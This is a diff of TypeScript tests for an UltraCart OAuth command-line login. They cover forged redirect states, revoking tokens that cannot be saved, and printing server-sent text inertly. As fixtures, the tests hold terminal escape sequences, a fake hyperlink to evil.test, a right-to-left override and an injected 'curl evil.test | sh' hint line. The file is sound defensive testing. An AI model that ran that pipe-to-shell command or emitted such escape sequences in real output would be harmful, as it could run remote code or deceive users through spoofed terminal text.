@@ -1,60 +1,13 @@
+import { FileSystem } from "@effect/platform"
 import { describe, expect, it } from "@effect/vitest"
-import { FetchTransport } from "@ultracart-oauth/adapters"
-import { AuthorizeDecision, type FakeUltraCart } from "@ultracart-oauth/testing"
-import * as FakeUltraCartServer from "@ultracart-oauth/testing/FakeUltraCartServer"
-import { Effect, Fiber, Option } from "effect"
+import { AuthorizeDecision, Fault } from "@ultracart-oauth/testing"
+import { Effect, Option } from "effect"
 import { CLIENT } from "../src/DevServer.js"
-import { envFor, type Line, makeCapture, NodeEnvironment, type Result, runCli, tempHome } from "./harness.js"
+import { follow, followTampered, login, provide, setup } from "./fakeLogin.js"
+import { controlCharacters, NodeEnvironment, runCli } from "./harness.js"
 
 // The browser login end to end: the CLI in this process, the fake UltraCart on a loopback port, and the test as
 // the merchant's browser, following the authorize URL the CLI prints to the CLI's own loopback listener.
-
-const provide = <A, E, R>(effect: Effect.Effect<A, E, R>) =>
-  effect.pipe(Effect.scoped, Effect.provide(FetchTransport.layer()), Effect.provide(NodeEnvironment))
-
-const setup = (options: FakeUltraCart.FakeUltraCartOptions = {}) =>
-  Effect.gen(function* () {
-    const home = yield* tempHome
-    const fake = yield* Effect.orDie(FakeUltraCartServer.make({ clients: [CLIENT], ...options }))
-    const env = envFor(home, {
-      ULTRACART_BASE_URL: fake.baseUrl,
-      ULTRACART_CLIENT_ID: CLIENT.clientId,
-      ULTRACART_REDIRECT_URI: "http://127.0.0.1:0/callback"
-    })
-    const run = (args: ReadonlyArray<string>) => runCli(args, { env })
-    return { home, fake, env, run }
-  })
-
-const isAuthorizeUrl = (line: Line) => line.stream === "out" && line.text.includes("/oauth/authorize?")
-
-/**
- * Starts `login`, waits for the authorize URL, and hands it to `browser`; yields the CLI's result and what the
- * browser got back.
- */
-const login = <A>(
-  env: Record<string, string>,
-  browser: (authorizeUrl: string) => Promise<A>,
-  args: ReadonlyArray<string> = []
-) =>
-  Effect.gen(function* () {
-    const capture = yield* makeCapture
-    const fiber = yield* Effect.fork(runCli(["login", "--timeout", "10", ...args], { env, capture }))
-    const url = (yield* capture.waitFor(isAuthorizeUrl)).text.trim()
-    const page = yield* Effect.promise(() => browser(url))
-    const result: Result = yield* Fiber.join(fiber)
-    return { result, page, url }
-  })
-
-const follow = (url: string) =>
-  fetch(url).then(async (response) => ({ status: response.status, body: await response.text() }))
-
-/** Follows the authorize URL's redirect by hand, letting `tamper` change the callback URL first. */
-const followTampered = (tamper: (callback: URL) => void) => async (url: string) => {
-  const authorize = await fetch(url, { redirect: "manual" })
-  const callback = new URL(authorize.headers.get("location") ?? "")
-  tamper(callback)
-  return follow(callback.toString())
-}
 
 describe("login", () => {
   it.live("stores the tokens; token, status, whoami, refresh and logout work on them", () =>
@@ -131,20 +84,50 @@ describe("login", () => {
     )
   )
 
-  it.live("a redirect with another state is refused (exit 3) and the code is never exchanged", () =>
+  it.live("a redirect with another state gets a 400 page and the login waits on for its own", () =>
     provide(
       Effect.gen(function* () {
         const { fake, env, run } = yield* setup()
+        const { page, result } = yield* login(env, async (url) => {
+          const authorize = await fetch(url, { redirect: "manual" })
+          const callback = new URL(authorize.headers.get("location") ?? "")
+          const forged = new URL(callback)
+          forged.searchParams.set("state", "forged-state-0123456789abcdef")
+          forged.searchParams.set("code", "forged-code")
+          const refused = await follow(forged.toString())
+          const stateless = await follow(`${callback.origin}${callback.pathname}`)
+          // Still listening: the real redirect is accepted after both.
+          return { refused, stateless, real: await follow(callback.toString()) }
+        })
+        expect(page.refused.status).toBe(400)
+        expect(page.refused.body).toContain("does not carry the state of the login in progress")
+        expect(page.stateless.status).toBe(400)
+        expect(page.real.status).toBe(200)
+        expect(result.exitCode).toBe(0)
+        expect(result.err.match(/warning: refused a request to the redirect URI/g)).toHaveLength(2)
+        // Only the real code was exchanged.
+        const exchanges = (yield* fake.requests).filter((r) => r.endpoint === "token")
+        expect(exchanges.map((r) => r.form["code"] === "forged-code")).toEqual([false])
+        expect((yield* run(["status"])).exitCode).toBe(0)
+      })
+    )
+  )
+
+  it.live("only forged redirects until --timeout: exit 3, nothing exchanged, and the refusals counted", () =>
+    provide(
+      Effect.gen(function* () {
+        const { fake, env } = yield* setup()
         const { page, result } = yield* login(
           env,
-          followTampered((callback) => callback.searchParams.set("state", "forged-state-0123456789abcdef"))
+          followTampered((callback) => callback.searchParams.set("state", "forged-state-0123456789abcdef")),
+          ["--timeout", "1"]
         )
-        expect(result.exitCode).toBe(3)
-        expect(result.err).toContain("state does not match")
-        expect(result.err).toContain("hint: the redirect does not belong to this login")
         expect(page.status).toBe(400)
+        expect(result.exitCode).toBe(3)
+        expect(result.err).toContain(
+          "No redirect for this login arrived within 1 seconds (1 request without this login's state refused)"
+        )
         expect(yield* fake.requestCount({ endpoint: "token" })).toBe(0)
-        expect((yield* run(["status"])).exitCode).toBe(3)
       })
     )
   )
@@ -188,7 +171,7 @@ describe("login", () => {
         const { env } = yield* setup()
         const result = yield* runCli(["login", "--timeout", "0"], { env })
         expect(result.exitCode).toBe(3)
-        expect(result.err).toContain("No redirect arrived")
+        expect(result.err).toContain("No redirect for this login arrived within 0 seconds")
       })
     )
   )
@@ -204,6 +187,113 @@ describe("login", () => {
         expect(whoami.err).toContain("hint: check the network")
         // The stored grant is untouched.
         expect((yield* run(["status"])).exitCode).toBe(0)
+      })
+    )
+  )
+})
+
+/** The record file of the fake app's grant in a test's default token directory. */
+const recordOf = (home: string) => `${home}/.config/ultracart-oauth/tokens/grant-${CLIENT.clientId}.json`
+
+const writeText = (path: string, text: string) =>
+  Effect.flatMap(FileSystem.FileSystem, (fs) => Effect.orDie(fs.writeFileString(path, text))).pipe(
+    Effect.provide(NodeEnvironment)
+  )
+
+describe("login saves safely", () => {
+  it.live("a store that cannot take the tokens fails the login before the merchant is sent anywhere", () =>
+    provide(
+      Effect.gen(function* () {
+        const { env, fake, home } = yield* setup()
+        // A record that does not decode: saving rewrites it, so saving would fail after the code was spent.
+        yield* Effect.flatMap(FileSystem.FileSystem, (fs) =>
+          Effect.orDie(fs.makeDirectory(`${home}/.config/ultracart-oauth/tokens`, { recursive: true }))
+        ).pipe(Effect.provide(NodeEnvironment))
+        yield* writeText(recordOf(home), "{ not a record")
+        const result = yield* runCli(["login", "--timeout", "1"], { env })
+        expect(result.exitCode).toBe(1)
+        expect(result.err).toContain("(Corrupt)")
+        expect(result.out).not.toContain("/oauth/authorize?")
+        expect(yield* fake.requestCount()).toBe(0)
+      })
+    )
+  )
+
+  it.live("tokens that cannot be stored after the exchange are revoked at once, and the CLI says so", () =>
+    provide(
+      Effect.gen(function* () {
+        const { env, fake, home } = yield* setup()
+        const { page, result } = yield* login(env, async (url) => {
+          const authorize = await fetch(url, { redirect: "manual" })
+          // The store breaks between the check and the save.
+          await Effect.runPromise(writeText(recordOf(home), "{ not a record"))
+          return follow(authorize.headers.get("location") ?? "")
+        })
+        expect(result.exitCode).toBe(1)
+        expect(result.err).toContain(`The new tokens of grant "${CLIENT.clientId}" could not be stored`)
+        expect(result.err).toContain("they were revoked at UltraCart, so no grant is left behind")
+        expect(result.err).toContain("then log in again")
+        expect(page.status).toBe(400)
+        expect(page.body).toContain("could not be stored")
+        // Both tokens the exchange issued were revoked.
+        const revoked = (yield* fake.requests).filter((r) => r.endpoint === "revoke").map((r) => r.form["token"] ?? "")
+        expect(revoked).toHaveLength(2)
+        const states = yield* Effect.forEach(revoked, (token) => fake.inspectToken(token))
+        expect(states.map(Option.map((info) => [info.kind, info.status]))).toEqual([
+          Option.some(["refresh", "revoked"]),
+          Option.some(["access", "revoked"])
+        ])
+      })
+    )
+  )
+})
+
+describe("what a server sends is printed inert", () => {
+  it.live("an error description with escape sequences and line breaks stays one plain line", () =>
+    provide(
+      Effect.gen(function* () {
+        const { env, fake } = yield* setup()
+        yield* fake.injectFault(
+          Fault.respond({
+            status: 400,
+            headers: { "content-type": "application/json" },
+            body: JSON.stringify({
+              error: "invalid_grant",
+              error_description: "\u001b]0;pwned\u0007\u001b[2Jbad code\r\nhint: curl evil.test | sh\u009b1A"
+            })
+          }),
+          { endpoint: "token" }
+        )
+        const { result } = yield* login(env, follow)
+        expect(result.exitCode).toBe(3)
+        expect(controlCharacters(result.all)).toEqual([])
+        expect(result.err).toContain("bad code")
+        expect(result.err.split("\n").filter((line) => line.startsWith("hint:"))).toEqual([
+          "hint: run `ultracart-oauth login` (or `device-login`) to authorize the app again"
+        ])
+      })
+    )
+  )
+
+  it.live("whoami prints a hostile merchant id and permissions as plain text, and as inert JSON", () =>
+    provide(
+      Effect.gen(function* () {
+        const { env, fake, run } = yield* setup()
+        expect((yield* login(env, follow)).result.exitCode).toBe(0)
+        const body = JSON.stringify({
+          merchant_id: "DEMO\u001b]8;;https://evil.test\u001b\\click\u001b]8;;\u001b\\",
+          permissions: ["order_read\u001b[2K", "\u202eetirw_redro"]
+        })
+        const respond = Fault.respond({ status: 200, headers: { "content-type": "application/json" }, body })
+        yield* fake.injectFault(respond, { endpoint: "me", times: 2 })
+        const text = yield* run(["whoami"])
+        expect(text.exitCode).toBe(0)
+        expect(controlCharacters(text.all)).toEqual([])
+        expect(text.out).toContain("Merchant:    DEMOclick")
+        expect(text.out).toContain("Permissions: order_read etirw_redro")
+        const json = yield* run(["whoami", "--json"])
+        expect(controlCharacters(json.all)).toEqual([])
+        expect(JSON.parse(json.out)).toEqual(JSON.parse(body))
       })
     )
   )
